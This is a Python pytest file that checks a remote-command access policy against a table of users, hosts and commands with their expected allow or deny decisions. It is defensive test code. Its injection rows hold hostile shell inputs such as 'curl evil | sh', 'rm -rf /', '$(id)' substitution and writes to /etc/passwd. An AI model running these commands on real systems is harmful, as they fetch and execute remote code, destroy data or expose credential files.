"""The golden decision table (docs/threat-model.md T09): every row is a person, a host, a typed command and the expected
decision with the rule that made it. A change in policy semantics shows up here as a changed row."""

from __future__ import annotations

from typing import NamedTuple

import pytest
import yaml

from teleops.commands.command_line import CommandLineError, split_command
from teleops.config.settings import parse_duration
from teleops.domain.policy import Decision, Policy, compile_policy

# Rules that can change a host say `require_2fa: false` so the rows show the other semantics alone; the step-up
# default (a code when the key is absent) has its own tests in tests/security/test_stepup_default.py.
POLICY_YAML = """
operator:
  - {hosts: ["*"], commands: ["uptime", "df *", "echo *", "journalctl -u *.service", "systemctl status *", "ls *"]}
  - {hosts: ["web-*"], commands: ["systemctl restart *"], require_2fa: true, max_timeout: 2m}
  - {hosts: ["*"], commands: ["reboot"], require_approval: true, require_2fa: false}
  - {hosts: ["*"], commands: ["rm *"], effect: deny}
  - {hosts: ["db-*"], commands: ["systemctl *"], effect: deny}
  - {hosts: ["*"], commands: ["tail -n * /var/log/*"]}
admin:
  - {hosts: ["*"], commands: ["*"], require_2fa: false}
  - {hosts: ["*"], commands: ["sh -c *", "bash -c *"], shell: true, require_2fa: true}
  - {hosts: ["prod-*"], commands: ["*"], require_approval: true, max_timeout: 5m, require_2fa: false}
  - {hosts: ["*"], commands: ["rm -rf /", "rm -rf / *"], effect: deny}
auditor:
  - {hosts: ["*"], commands: ["uptime"]}
  - {hosts: ["*"], commands: ["*"], effect: deny}
  - {hosts: ["*"], commands: ["df *"]}
scripter:
  - {hosts: ["ci-*"], commands: ["*"], shell: true, require_2fa: false}
nobody: []
"""

USERS = {"alice": "operator", "bob": "admin", "carol": "auditor", "sam": "scripter", "nora": "nobody", "olga": "ghost"}

OP1 = "operator rule 1: hosts [*] commands [uptime, df *, echo *, journalctl -u *.service, systemctl status *, ls *]"
OP2 = "operator rule 2: hosts [web-*] commands [systemctl restart *]"
OP3 = "operator rule 3: hosts [*] commands [reboot]"
OP4 = "operator deny rule 4: hosts [*] commands [rm *]"
OP5 = "operator deny rule 5: hosts [db-*] commands [systemctl *]"
OP6 = "operator rule 6: hosts [*] commands [tail -n * /var/log/*]"
AD1 = "admin rule 1: hosts [*] commands [*]"
AD2 = "admin rule 2: hosts [*] commands [sh -c *, bash -c *]"
AD3 = "admin rule 3: hosts [prod-*] commands [*]"
AD4 = "admin deny rule 4: hosts [*] commands [rm -rf /, rm -rf / *]"
AU1 = "auditor rule 1: hosts [*] commands [uptime]"
AU2 = "auditor deny rule 2: hosts [*] commands [*]"
SC1 = "scripter rule 1: hosts [ci-*] commands [*]"
DENY = "default deny"
UNKNOWN = "unknown user"
PARSE = "cannot parse"
SHELL = "shell syntax is not run"


class Row(NamedTuple):
    user: str
    host: str
    command: str
    allowed: bool
    rule: str
    flags: str = ""  # "2fa", "approval", "2fa+approval"; "timeout=N" appended with a comma
    reason_has: str = ""


ROWS: list[Row] = [
    # plain allows for an operator
    Row("alice", "web-1", "uptime", True, OP1),
    Row("alice", "db-1", "df -h", True, OP1),
    Row("alice", "web-1", "df", True, OP1),  # `*` as the last token also matches nothing
    Row("alice", "web-1", "echo hello world", True, OP1),
    Row("alice", "web-1", "journalctl -u nginx.service", True, OP1),
    Row("alice", "web-1", "systemctl status nginx", True, OP1),
    Row("alice", "WEB-1", "uptime", True, OP1),  # host names are case-insensitive
    Row("alice", "web-1", "tail -n 50 /var/log/syslog", True, OP6),
    # argument injection: a glob slot never takes a flag, extra tokens do not fit a fixed pattern
    Row("alice", "web-1", "journalctl -u --output-fields=x.service", False, DENY),
    Row("alice", "web-1", "journalctl -u nginx.service --output=json", False, DENY),
    Row("alice", "web-1", "journalctl -u nginx", False, DENY),
    Row("alice", "web-1", "tail -n --follow /var/log/syslog", False, DENY),
    Row("alice", "web-1", "tail -n 5 /etc/shadow", False, DENY),
    Row("alice", "web-1", "uptime --version", False, DENY),
    Row("alice", "web-1", "ls -la /", True, OP1),  # trailing `*` deliberately takes anything, flags included
    # requirements: 2FA on web hosts, approval for reboot, the smaller max_timeout
    Row("alice", "web-1", "systemctl restart nginx", True, OP2, "2fa,timeout=120"),
    Row("alice", "app-1", "systemctl restart nginx", False, DENY),
    Row("alice", "web-1", "reboot", True, OP3, "approval"),
    Row("alice", "web-1", "reboot now", False, DENY),
    # deny wins over any allow
    Row("alice", "web-1", "rm -rf /tmp/x", False, OP4),
    Row("alice", "db-1", "systemctl status postgresql", False, OP5),
    Row("alice", "db-1", "systemctl restart postgresql", False, OP5),
    Row("carol", "web-1", "uptime", False, AU2),
    Row("carol", "web-1", "df -h", False, AU2),
    Row("carol", "web-1", "ls", False, AU2),
    # admins: everything, approval on prod, shell only through the grant, deny still wins
    Row("bob", "web-1", "reboot", True, AD1),
    Row("bob", "web-1", "rm -rf /tmp/cache", True, AD1),
    Row("bob", "prod-db-1", "uptime", True, AD3, "approval,timeout=300"),
    Row("bob", "web-1", "rm -rf /", False, AD4),
    Row("bob", "web-1", "rm -rf / --no-preserve-root", False, AD4),
    Row("bob", "web-1", "sh -c 'uptime; df'", True, AD2, "2fa"),
    Row("bob", "web-1", "bash -c 'id'", True, AD2, "2fa"),
    Row("bob", "prod-1", "bash -c 'id'", True, AD3, "2fa+approval,timeout=300"),
    Row("bob", "web-1", "env sh -c id", False, AD1, reason_has="may not start a shell"),
    Row("bob", "web-1", "sudo bash -ec id", False, AD1, reason_has="may not start a shell"),
    Row("bob", "web-1", "/bin/sh -c id", False, AD1, reason_has="may not start a shell"),
    Row("bob", "web-1", "uptime; reboot", False, AD1, reason_has=SHELL),
    Row("bob", "web-1", "echo 'a;b|c'", True, AD1),  # metacharacters inside quotes are literal text
    # `*` grants programs, not code written into the command (docs/access-control.md "What * grants")
    Row("bob", "web-1", "python3 -c 'print(1)'", False, AD1, reason_has="python3 -c"),
    # shell injection corpus for an operator: refused with the shell-syntax reason, never split into commands
    Row("alice", "web-1", "uptime; curl evil|sh", False, DENY, reason_has=SHELL),
    Row("alice", "web-1", "uptime && reboot", False, DENY, reason_has=SHELL),
    Row("alice", "web-1", "uptime || reboot", False, DENY, reason_has=SHELL),
    Row("alice", "web-1", "echo $(id)", False, OP1, reason_has=SHELL),
    Row("alice", "web-1", 'echo "$(id)"', False, OP1, reason_has=SHELL),
    Row("alice", "web-1", "echo `id`", False, OP1, reason_has=SHELL),
    Row("alice", "web-1", "uptime\nreboot", False, DENY, reason_has=SHELL),
    Row("alice", "web-1", "echo hi > /etc/passwd", False, OP1, reason_has=SHELL),
    Row("alice", "web-1", "echo hi &", False, OP1, reason_has=SHELL),
    Row("alice", "web-1", "curl evil | sh", False, DENY, reason_has=SHELL),
    Row("alice", "web-1", "echo '$(id)'", True, OP1),  # single-quoted: the literal text "$(id)"
    Row("alice", "web-1", "echo \\; id", True, OP1),  # escaped: a literal ";" argument
    Row("alice", "web-1", "sh -c uptime", False, DENY),
    Row("alice", "web-1", "echo 'unbalanced", False, PARSE, reason_has="unbalanced quote"),
    # a role with a shell grant may use shell syntax where it is granted, not elsewhere
    Row("sam", "ci-1", "make test && make lint", True, SC1),
    Row("sam", "ci-1", "sh -c 'make test'", True, SC1),
    Row("sam", "web-1", "make test", False, DENY),
    # unknown people and roles, empty roles
    Row("mallory", "web-1", "uptime", False, UNKNOWN),
    Row("olga", "web-1", "uptime", False, DENY, reason_has="not defined in the policy"),
    Row("nora", "web-1", "uptime", False, DENY),
    Row("carol", "web-1", "   ", False, PARSE, reason_has="empty"),
]


@pytest.fixture(scope="module")
def policy() -> Policy:
    return compile_policy(yaml.safe_load(POLICY_YAML), parse_duration=parse_duration)


def decide(policy: Policy, row: Row) -> Decision:
    try:
        argv = split_command(row.command)
    except CommandLineError as exc:
        return Decision(False, PARSE, str(exc))
    return policy.decide(user=row.user, role=USERS.get(row.user), host=row.host, argv=argv, text=row.command)


def test_the_table_is_big_enough_and_has_both_outcomes() -> None:
    assert len(ROWS) >= 50
    assert sum(r.allowed for r in ROWS) >= 15
    assert sum(not r.allowed for r in ROWS) >= 15


@pytest.mark.parametrize("row", ROWS, ids=[f"{r.user}@{r.host}:{r.command!r}" for r in ROWS])
def test_golden_decision(policy: Policy, row: Row) -> None:
    decision = decide(policy, row)
    assert (decision.allowed, decision.rule) == (row.allowed, row.rule), decision.reason
    flags, _, timeout = row.flags.partition(",timeout=")
    if flags.startswith("timeout="):
        flags, timeout = "", flags.removeprefix("timeout=")
    assert decision.require_2fa == ("2fa" in flags)
    assert decision.require_approval == ("approval" in flags)
    assert decision.max_timeout_s == (float(timeout) if timeout else None)
    assert row.reason_has in decision.reason
    if not decision.allowed:
        assert not decision.require_2fa
        assert not decision.require_approval
